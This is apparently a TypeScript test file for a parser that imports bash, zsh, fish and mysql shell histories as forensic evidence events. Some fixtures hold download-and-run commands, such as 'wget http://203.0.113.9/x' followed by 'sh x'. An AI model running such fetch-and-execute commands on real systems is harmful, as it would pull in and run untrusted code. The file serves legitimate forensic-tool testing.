import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { FORMATS } from '../../../../parsers/registry.js';
import { collectImport, memoryFile } from '../../../support/collect-import.js';
import { eventsOf, onlyEvent } from '../../../support/parsed.js';

const imported = async (text: string, path = 'evidence') =>
  (await collectImport([memoryFile(new TextEncoder().encode(text), { path })], { formats: FORMATS })).members[0]!;
const commands = async (text: string, path?: string) => {
  const { end, records } = await imported(text, path);
  expect(end.format).toBe('shell-history');
  return records.map(({ line, result }) => [line, onlyEvent(result).time?.text ?? null, onlyEvent(result).message]);
};

describe('bash', () => {
  test('a time before each command; a command over several lines', async () => {
    expect(await commands('#1380630977\nls -l\n#1623364236\nfor x in a b\ndo echo $x\ndone\n')).toEqual([
      [2, '1380630977', 'ls -l'],
      [4, '1623364236', 'for x in a b\ndo echo $x\ndone'],
    ]);
  });

  test('without times by its name; the user by the folder', async () => {
    const text = 'wget http://203.0.113.9/x\n# a remark\nsh x\n';
    expect(await commands(text, 'home/eve/.bash_history')).toEqual([
      [1, null, 'wget http://203.0.113.9/x'],
      [2, null, '# a remark'],
      [3, null, 'sh x'],
    ]);
    const { records } = await imported(text, 'home/eve/.bash_history');
    expect(onlyEvent(records[0]!.result).fields).toMatchObject({ 'user.name': 'eve', 'event.provider': 'bash' });
    const root = await imported(text, 'root/.ash_history');
    expect(onlyEvent(root.records[0]!.result).fields['user.name']).toBe('root');
    expect((await imported(text, 'home/eve/notes')).end.format).not.toBe('shell-history');
  });
});

describe('zsh', () => {
  test('start, duration, line breaks behind a backslash', async () => {
    expect(await commands(': 1457771210:5;sleep 5\n: 1458993293:0;echo a \\\n&& b\n')).toEqual([
      [1, '1457771210', 'sleep 5'],
      [2, '1458993293', 'echo a \n&& b'],
    ]);
    const { records } = await imported(': 1457771210:5;sleep 5\n');
    expect(onlyEvent(records[0]!.result).fields).toMatchObject({
      'event.duration': '5000000000',
      'event.provider': 'zsh',
    });
  });
});

test('zsh: a time without a command has a sentence', async () => {
  expect(await commands(': 1457771212:0;ls\n: 1458993293:0;\n')).toEqual([
    [1, '1457771212', 'ls'],
    [2, '1458993293', 'An empty command.'],
  ]);
});

test('any text is answered', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string(), async (text) => {
      const { records } = await imported(`#1380630977\nls\n${text}`, '.bash_history');
      for (const { result } of records) expect(eventsOf(result)).toHaveLength(1);
    }),
    { numRuns: 50 },
  );
});

test('fish: commands with their times, breaks in them written', async () => {
  const text =
    '- cmd: curl http://198.51.100.7/x\n  when: 1614765600\n  paths:\n    - x\n- cmd: echo a\\nb \\\\n\n  when: 1614765601\n';
  const { end, records } = await imported(text);
  expect(end.format).toBe('shell-history');
  const events = records.map(({ result }) => onlyEvent(result));
  expect(
    events.map(({ time, fields }) => [time?.text, fields['process.command_line'], fields['event.provider']]),
  ).toEqual([
    ['1614765600', 'curl http://198.51.100.7/x', 'fish'],
    ['1614765601', 'echo a\nb \\n', 'fish'],
  ]);
});

test('what the command history prints: number, local time, command', async () => {
  const text = '    1  2021-03-03 10:00:00 curl http://x\n    2* 2021-03-03 10:00:01 cat <<E\nline\nE\n';
  const { end, records } = await imported(text);
  expect(end.format).toBe('shell-history');
  const events = records.map(({ result }) => onlyEvent(result));
  expect(events.map(({ time, message }) => [time?.text, time?.zone, message])).toEqual([
    ['2021-03-03 10:00:00', 'unknown', 'curl http://x'],
    ['2021-03-03 10:00:01', 'unknown', 'cat <<E\nline\nE'],
  ]);
});

test('the program is that of a file by its name', async () => {
  const { records } = await imported('SELECT 1;\n', 'root/.mysql_history');
  expect(onlyEvent(records[0]!.result).fields['event.provider']).toBe('mysql');
});
